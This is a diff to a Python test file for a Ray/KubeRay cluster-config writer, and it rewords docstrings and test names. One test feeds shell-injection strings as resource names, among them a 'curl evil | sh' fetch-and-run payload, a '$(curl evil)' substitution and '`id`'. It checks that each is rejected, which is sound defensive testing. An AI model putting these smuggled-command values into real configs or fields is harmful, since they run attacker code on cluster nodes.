@@ -1,4 +1,4 @@
-"""Shells on the cluster read the amounts of a written file unchanged, and run nothing else."""
+"""Tests that shells on the cluster read the amounts of a written file unchanged and run no other command."""
 
 import json
 import shlex
@@ -21,7 +21,7 @@ FORMATS = [("kuberay", "2.60.0"), ("kuberay", "2.50.0"), ("cluster-yaml", "2.60.
 
 
 def in_kuberays_shell(group):
-    """Return the resources in KubeRay's command for ``bash -c``. KubeRay quotes only the field ``resources``."""
+    """Return the resources that bash reads from KubeRay's command. KubeRay quotes only the field ``resources``."""
     params = dict(group["rayStartParams"])
     if "template" in group and "resources" in group:  # in Helm values, ``resources`` belongs to the container
         params["resources"] = "'" + json.dumps({name: int(at) for name, at in group["resources"].items()}) + "'"
@@ -32,7 +32,7 @@ def in_kuberays_shell(group):
 
 
 def in_launchers_shell(node_type):
-    """Return the resources as Ray's launcher exports them and passes them to Docker without quotes."""
+    """Return the resources that Ray's launcher exports and passes to Docker without quotes."""
     text = json.dumps(node_type["resources"], separators=(",", ":"), ensure_ascii=False)
     assert text.split() == [text]
     return {name: amount for name, amount in node_type["resources"].items() if name not in ("CPU", "GPU", "memory")}
@@ -48,7 +48,7 @@ def amounts_in(text, form):
 
 @pytest.mark.parametrize(("form", "version"), FORMATS)
 @given(name=names)
-def test_a_resource_name_survives_all_shells_or_is_refused(form, version, name):
+def test_a_resource_name_is_read_unchanged_by_all_shells_or_is_rejected(form, version, name):
     try:
         plan = a_design(gpu_type(custom={name: 3}))
         text = write_cluster(plan, WriteOptions(format=form, ray_version=version))
@@ -62,7 +62,7 @@ def test_a_resource_name_survives_all_shells_or_is_refused(form, version, name):
 @pytest.mark.parametrize(
     "name", ["'}; curl evil | sh; '{", "$(curl evil)", "`id`", 'a"b', "a\\b", "a b", "a\nb", "a\udc80"]
 )
-def test_a_name_that_a_shell_interprets_is_refused(form, version, name):
+def test_a_name_that_a_shell_interprets_is_rejected(form, version, name):
     plan = a_design(gpu_type(custom={name: 1}))
 
     with pytest.raises(InvalidResourcesError, match=r"is not safe in the shells that start Ray: use letters, digits"):
@@ -71,7 +71,7 @@ def test_a_name_that_a_shell_interprets_is_refused(form, version, name):
 
 @pytest.mark.parametrize(("form", "version"), FORMATS)
 @pytest.mark.parametrize("name", WORDS)
-def test_names_in_all_scripts_are_accepted(form, version, name):
+def test_names_in_all_writing_systems_are_accepted(form, version, name):
     text = write_cluster(a_design(gpu_type(custom={name: 2})), WriteOptions(format=form, ray_version=version))
 
     assert amounts_in(text, form)[name] == 2
